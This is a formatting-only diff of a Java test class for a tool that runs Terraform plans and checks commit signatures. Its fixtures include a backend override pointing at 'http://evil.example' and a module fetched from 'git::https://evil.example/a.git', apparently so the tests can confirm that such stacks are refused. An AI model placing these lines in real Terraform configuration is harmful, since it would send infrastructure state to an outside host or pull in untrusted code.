@@ -38,7 +38,9 @@ public class SourceCommandsTest {
                 .stack("dev/values", "variables: {region: eu-west-1}", "variable \"region\" {}\n")
                 .file("dev/values/evil.auto.tfvars", "region = \"evil\"\n")
                 .stack("dev/backend", "", empty)
-                .file("dev/backend/x_override.tf", "terraform {\n  backend \"http\" {\n    address = \"http://evil.example\"\n  }\n}\n")
+                .file(
+                        "dev/backend/x_override.tf",
+                        "terraform {\n  backend \"http\" {\n    address = \"http://evil.example\"\n  }\n}\n")
                 .stack("dev/provider", "", "resource \"null_resource\" \"a\" {}\n")
                 .stack("dev/module", "", "module \"a\" {\n  source = \"git::https://evil.example/a.git\"\n}\n")
                 .stack("dev/broken", "", "resource \"terraform_data\" {\n")
@@ -51,14 +53,18 @@ public class SourceCommandsTest {
         company.commit();
         key = company.directory().resolve("key");
         Assume.assumeTrue(
-                "skipped: no ssh-keygen on PATH", LocalSource.program("ssh-keygen").isPresent());
-        Company.output(new ProcessBuilder("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice", "-f", key + ""), 0);
+                "skipped: no ssh-keygen on PATH",
+                LocalSource.program("ssh-keygen").isPresent());
+        Company.output(
+                new ProcessBuilder("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice", "-f", key + ""), 0);
         Files.writeString(
-                company.directory().resolve("signers"), "alice@northstar.example " + Files.readString(Path.of(key + ".pub")));
+                company.directory().resolve("signers"),
+                "alice@northstar.example " + Files.readString(Path.of(key + ".pub")));
     }
 
     private static JsonNode predicate(Answer answer) throws Exception {
-        JsonNode envelope = Json.parse(Files.readString(Path.of(answer.json().path("evidence").asText())));
+        JsonNode envelope = Json.parse(
+                Files.readString(Path.of(answer.json().path("evidence").asText())));
         return Json.mapper()
                 .readTree(Base64.getDecoder().decode(envelope.path("payload").asText()))
                 .path("predicate");
@@ -83,7 +89,8 @@ public class SourceCommandsTest {
     public void plan_commitThatIsNotHead_isNotVerifiedInTheEvidence() throws Exception {
         Answer older = company.plan("dev/empty", "branch", "main", first).ends(0);
         assertFalse(predicate(older).path("source").path("commitVerified").asBoolean());
-        Answer unknown = company.plan("dev/empty", "branch", "main", "0".repeat(40)).ends(0);
+        Answer unknown =
+                company.plan("dev/empty", "branch", "main", "0".repeat(40)).ends(0);
         assertFalse(predicate(unknown).path("source").path("commitVerified").asBoolean());
     }
 
@@ -96,19 +103,39 @@ public class SourceCommandsTest {
     @Test
     public void plan_commitOfAnAllowedSigner_isAdmitted() throws Exception {
         company.git(
-                "-c", "gpg.format=ssh", "-c", "user.signingkey=" + key, "commit", "-q", "-S", "--allow-empty", "-m", "x");
+                "-c",
+                "gpg.format=ssh",
+                "-c",
+                "user.signingkey=" + key,
+                "commit",
+                "-q",
+                "-S",
+                "--allow-empty",
+                "-m",
+                "x");
         Answer answer = company.plan("prod/signed").ends(0);
         assertEquals("no_changes", answer.state());
-        assertEquals("yes", predicate(answer).path("source").path("commitSigned").asText());
+        assertEquals(
+                "yes", predicate(answer).path("source").path("commitSigned").asText());
     }
 
     @Test
     public void plan_commitOfAnotherSigner_isRefused() throws Exception {
         Path other = company.directory().resolve("other");
         Company.output(
-                new ProcessBuilder("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "mallory", "-f", other + ""), 0);
+                new ProcessBuilder("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "mallory", "-f", other + ""),
+                0);
         company.git(
-                "-c", "gpg.format=ssh", "-c", "user.signingkey=" + other, "commit", "-q", "-S", "--allow-empty", "-m", "x");
+                "-c",
+                "gpg.format=ssh",
+                "-c",
+                "user.signingkey=" + other,
+                "commit",
+                "-q",
+                "-S",
+                "--allow-empty",
+                "-m",
+                "x");
         refused("prod/signed", "signed-only");
     }
 
